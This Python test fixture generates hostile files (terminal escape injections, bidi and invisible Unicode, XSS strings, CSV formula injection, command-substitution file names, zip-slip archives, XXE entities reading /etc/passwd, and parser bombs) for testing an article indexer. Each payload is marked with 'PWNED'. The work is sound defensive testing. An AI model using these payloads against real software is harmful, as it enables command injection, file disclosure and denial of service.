"""Small hostile files of our own, made when they are needed: what an attacker could put into a folder of articles.

Each payload that a terminal or a program would obey has PWNED in it, so that a leak is told from what is ours.
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from pathlib import Path

from tests.index.documents.binary import binary_files

WORD = "zzhostile"
"""In the text of every item that can be read."""
BODY = f"\n\nThe {WORD} truce at the harbour was kept on Monday, Maria Lopez said.\n"
INVISIBLE = re.compile(
    "[\xad\u034f\u061c\u115f\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0"
    "\U000e0000-\U000e007f\U000e0100-\U000e01ef]"
)
"""What deceives the eye, and is not to be written to a terminal."""
PLANTED = re.compile(rb"\x1b[\]P_^Xk][^\x1b\x07]*PWNED|\xc2[\x80-\x9f]|\x1b(?:\[31337|\]52|\]1337|_G|\[201~)")
"""What a terminal would obey of it."""
BEL, ESC = "\x07", "\x1b"
_SELECTED = "".join(chr(0xE0100 + byte) for byte in b"PWNED")
_TAGGED = "".join(chr(0xE0000 + byte) for byte in b"PWNED")
_FORMS = '=HYPERLINK("http://a.example/?"&A1,"PWNED")'

_TEXTS: dict[str, str] = {
    # what a terminal obeys
    "osc8.txt": f"{ESC}]8;;http://a.example/PWNED{ESC}\\click{ESC}]8;;{ESC}\\",
    "osc8-file.txt": f"{ESC}]8;;file:///etc/passwd?PWNED{BEL}click{ESC}]8;;{BEL}",
    "osc52.txt": f"{ESC}]52;c;UFdORUQ={BEL}PWNED",
    "osc1337.txt": f"{ESC}]1337;File=inline=1:PWNED{BEL}",
    "osc-777.txt": f"{ESC}]777;notify;PWNED;now{BEL}{ESC}]9;PWNED{BEL}",
    "dcs-sixel.txt": f"{ESC}Pq#0;2;0;0;0PWNED{ESC}\\",
    "dcs-setting.txt": f'{ESC}P$q"p;PWNED{ESC}\\{ESC}P+q544e;PWNED{ESC}\\',
    "apc-kitty.txt": f"{ESC}_Ga=T,f=24,s=1,v=1;PWNED{ESC}\\",
    "pm-sos.txt": f"{ESC}^PWNED{ESC}\\{ESC}XPWNED{ESC}\\",
    "screen-title.txt": f"{ESC}kPWNED{ESC}\\",
    "paste-end.txt": f"{ESC}[201~; touch PWNED\r\n{ESC}[200~",
    "reports.txt": f"{ESC}[6n{ESC}[c{ESC}[>q{ESC}[21t{ESC}[?2004h{ESC}[?1049lPWNED",
    "c1-csi.txt": "\x9b31337;1HPWNED \x9d0;PWNED\x9c \x90qPWNED\x9c",
    "half-a-sequence.txt": f"PWNED{ESC}[38;2;1" + "\n" * 3 + f"{ESC}]0;PWNED and no end",
    "carriage.txt": "an honest line\rPWNED          \r\x08\x08\x08PWNED\x0b\x0cPWNED",
    # what deceives the eye
    "isolates.txt": "\u2066PWNED\u2069 \u2067PWNED \u202eDENWP\u202c \u061c\u200e\u200f",
    "tags.txt": f"a flag\U0001f3f4{_TAGGED}\U000e007f and words{_TAGGED}",
    "selectors.txt": f"an emoji \U0001f600{_SELECTED} and a letter a{_SELECTED}",
    "zalgo.txt": "P" + "\u0310\u0489\u0336" * 3_000 + "WNED",
    "joiners.txt": "PW\u200dNE\u200cD \u2060\ufeff\u00ad\u180e\u3164\uffa0",
    "rtl-title.txt": "\u05d4\u05e4\u05e1\u05e7\u05ea \u05d0\u05e9 PWNED.txt \u202b\u05d0\u05d1\n\nAnd on it went.",
    # front matter and HTML
    "yaml-escapes.md": '---\ntitle: "\\e]0;PWNED\\a \\x9b31m \\u202e"\ndate: "\\u001b[2J2024"\n---\n',
    "yaml-aliases.md": "---\na: &a [x,x,x,x,x,x,x,x]\n"
    + "".join(f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "title: *i\n---\n",
    "toml-front.md": '+++\ntitle = "\\u001b]0;PWNED\\u0007"\na' + ".b" * 5_000 + " = 1\n+++\n",
    "html-meta.html": "<html lang='&#27;[31m'><head><title>&#27;]0;PWNED&#7; &#x9b;31m</title>"
    "<meta name='date' content='&#x1b;[2J2024-01-01'><meta property='og:title' content='&#8238;PWNED'></head><p>text",
    "html-entities.html": "<p>&#27;[31m &#x1b;]0;PWNED&#x07; &#155;31m &#x9d;PWNED&#x9c; &#0; &#xD800; &#8294;x",
    "html-nested.html": "<div><b><i>" * 35_000,
    "html-tables.html": "<table><tr><td>" * 20_000,
    "html-active.html": "<script>touch('PWNED')</script><img src=x onerror='PWNED'><a href='javascript:PWNED'>a</a>"
    "<a href='data:text/html,PWNED'>b</a><svg onload='PWNED'/><iframe src='http://a.example'></iframe>",
    "utf7.html": "<meta charset='utf-7'><p>+AGwAdA-script+AGcAdA- +ABs-]0;PWNED+AAc-",
    # bombs of size and shape
    "wide-table.md": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n" + ("|" + "b|" * 3_000 + "\n") * 4,
    "deep-quotes.md": ">" * 20_000 + " PWNED\n" + "* " * 20_000 + "\n",
    "notes.md": "".join(f"[^{n}]: see [^{n + 1}] and [^{n}]\n\nPWNED[^{n}]\n\n" for n in range(200)),
    "definitions.md": "PWNED\n: a\n: b\n\n    : c\n\n" * 300 + "a\n" + ":" * 9_000,
    "address.md": '---\nurl: "javascript:PWNED()"\ncanonical: "http://a.example/\\e]8;;PWNED"\nlink: ["file:///PWNED"]\n---\n',
    "brackets.md": "[" * 9_000 + "](" * 3_000 + "`" * 6_001 + "*_" * 6_000,
    "line-ends.txt": "a\n" + "\n" * 300_000,
    "long-title.txt": "Truce " * 15_000 + "\n\nText.",
    "dots.txt": "Mr. " * 6_000 + "1,234," * 6_000 + "a." * 6_000,
    "quotes.txt": '"' * 8_000 + "“" * 8_000 + "'a" * 20_000,
    "addresses.txt": "a." * 20_000 + "http://" * 10_000 + "www." * 10_000,
    "names.txt": "Mc" * 5_000 + " " + "A-" * 5_000 + " von der" * 3_000,
    "dates.txt": "3 May 2024 to " * 1_500 + "1/1/1/" * 4_000 + "2024-13-45T99:99 " * 1_000,
    # what speaks to another program that the text goes on to
    "formula.txt": f"{_FORMS}\n\n+cmd|' /C PWNED'!A0\n\n@SUM(1)\n\n-2+3",
    "html-title.txt": "</title><script>PWNED()</script><img src=x onerror=PWNED> \"' &amp; ]]> <!--",
    "markdown-title.txt": "[PWNED](javascript:PWNED) ![x](http://a.example/PWNED.png) | `a` | <b>PWNED</b>",
    "rich-title.txt": "[@click=app.quit]PWNED[/] [link=http://a.example]PWNED[/link] [bold red]x",
    "json-title.txt": '"}\\u001b]0;PWNED\\u0007\n\n{"document": "PWNED"}',
}
_BYTES: dict[str, bytes] = {
    "overlong.txt": b"\xc0\x9b]0;PWNED\xc0\x87 \xe0\x80\x9b[31m \xf0\x80\x80\x9b",
    "surrogates.txt": b"\xed\xa0\x80PWNED\xed\xb0\x80 \xf4\x90\x80\x80 \xff\xfe",
    "utf16-escapes.txt": "\ufeff\x1b]0;PWNED\x07 \u202e".encode("utf-16-le") + BODY.encode("utf-16-le"),
    "raw-c1.txt": b"\x9b31337;1H \x9d0;PWNED\x9c caf\xe9 " * 30,
    "late-nul.txt": b"words " * 3_000 + b"\x00\x1b]0;PWNED\x07",
    "looped.pdf": b"%PDF-1.4\n1 0 obj<</Type/Pages/Kids[1 0 R]/Parent 1 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 9>>",
    "pdf-as.txt": b"%PDF-1.4\n1 0 obj<</Kids[1 0 R]>>endobj\x00\xff\n",
}
_LIE = "\x9b31m PWNED \u202eDENWP\u2069 \U000e0050\u200b P\u0489\u0489WNED"
_LINKS = "".join(
    f'<Relationship Id="r{n}" Type="hyperlink" Target="{to}" TargetMode="External"/>'
    for n, to in enumerate(("javascript:PWNED()", "file:///etc/passwd", "http://a.example/&#x9b;PWNED"))
)
_LINKED = "".join(f'<w:p><w:hyperlink r:id="r{n}"><w:r><w:t>PWNED</w:t></w:r></w:hyperlink></w:p>' for n in range(3))
_TITLE = r"\033]0;PWNED\007 \233 PWNED of some words"


def _documents() -> dict[str, bytes]:
    """Documents of word processors, books and PDFs: some that lie, some that are cut off, bent, deep or endless."""
    said = binary_files.paragraph(_LIE) + binary_files.paragraph(BODY.strip())
    text = f"<text:p>{_LIE}</text:p><text:p>{BODY.strip()}</text:p>"
    page = f"<html><body><h1>{_LIE}</h1><p>{BODY.strip()}</p><script>PWNED()</script></body></html>"
    word, book = binary_files.docx(said), binary_files.epub({"a.xhtml": page, "../../PWNED": page})
    lines = [(50.0, 700.0, 24.0, _TITLE), (50.0, 650.0, 10.0, BODY.strip())]
    printed = binary_files.pdf([lines], title=_TITLE)
    return {
        "lies.docx": word,
        "links.docx": binary_files.docx(_LINKED + said, links=_LINKS),
        "lies.odt": binary_files.odt(f"<office:text>{text}</office:text>", title=_LIE),
        "lies.epub": book,
        "lies.pdf": printed,
        "deep.odt": binary_files.odt("<office:text>" + "<text:section>" * 40_000 + text),
        "deep.docx": binary_files.docx("<w:tbl><w:tr><w:tc>" * 20_000 + said),
        "rows.docx": binary_files.docx("<w:tbl>" + "<w:tr><w:tc/></w:tr>" * 6_000 + "</w:tbl>" + said),
        "cells.odt": binary_files.odt(
            '<office:text><table:table><table:table-row><table:table-cell table:number-columns-repeated="999999999"/>'
            f"</table:table-row></table:table>{text}</office:text>"
        ),
        "lies.mhtml": _mail("related", page),
        "lies.eml": _mail("mixed", page),
        "parts.eml": b"Content-Type: multipart/mixed; boundary=x\n\n"
        + b"--x\nContent-Type: multipart/x; boundary=x\n\n" * 99,
        "cut.docx": word[: len(word) // 2],
        "cut.epub": book[: len(book) - 30],
        "bent.epub": book[:200] + bytes(40) + book[240:],
        "cut.pdf": printed[:120],
        "count.pdf": printed.replace(b"/Count 1", b"/Count 999999999"),
        "long.pdf": printed.replace(b"/Length ", b"/Length 99999999"),
    }


def _mail(kind: str, page: str) -> bytes:
    """A message whose headers lie too."""
    quoted = "".join(f"={byte:02X}" for byte in _LIE.encode()[:300])
    said = f"=?utf-8?Q?{quoted}?="
    return (
        f"Subject: {said}\nFrom: {said} <a@b.example>\nDate: {said}\nSnapshot-Content-Location: {said}\n"
        f"Content-Type: multipart/{kind}; boundary=x\n\n--x\nContent-Type: text/html; charset=utf-8\n\n{page}\n--x--\n"
    ).encode()


_NAMES: tuple[bytes, ...] = (
    b"new\nline PWNED.txt",
    b"esc-\x1b]0;PWNED\x07.txt",
    b"c1-\xc2\x9b31mPWNED.txt",
    b"--help PWNED.txt",
    b"-o PWNED.md",
    b"$(touch PWNED)`touch PWNED`.txt",
    b"raw-\xff\x9bPWNED.txt",
    "сеasefire.txt".encode(),  # Cyrillic letters that look Latin
    b"ceasefire.txt",
    "bidi-\u202etxt.DENWP.txt".encode(),
    "tags-\U000e0050.txt".encode(),
    b"Case.txt",
    b"case.txt",
    b"[red]PWNED[/] [@click=app.quit]x.txt",
    "z\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310\u0310.txt".encode(),
)


def make(folder: Path) -> list[bytes]:
    """Writes all items into a folder and gives their names, as the system has them."""
    folder.mkdir()
    names: list[bytes] = []
    place = os.fsencode(folder)

    def write(name: bytes, data: bytes) -> None:
        try:
            with open(place + b"/" + name, "xb") as file:
                file.write(data)
        except OSError:  # the file system refuses the name, or has it in other letters
            return
        names.append(name)

    for title, text in _TEXTS.items():
        write(title.encode(), (text + BODY).encode("utf-8", "surrogatepass"))
    for title, data in _BYTES.items():
        write(title.encode(), data if title.startswith("utf16") else data + BODY.encode())
    for name in _NAMES:
        write(name, b"A headline of some words" + BODY.encode())
    for title, data in _documents().items():
        write(title.encode(), data)
    for title in ("slip.zip", "outside.epub", "entity.docx", "slip.txt"):
        write(title.encode(), _archive())
    return names


def _archive() -> bytes:
    """An archive with a way out, a link, and a document that asks for files and pages of others."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../PWNED", "PWNED")
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a href="http://a.example/PWNED">&x;</a>'
        archive.writestr("word/document.xml", entity)
        archive.writestr("OEBPS/content.opf", entity)
        archive.writestr("zeros", bytes(1 << 20))
    return made.getvalue()
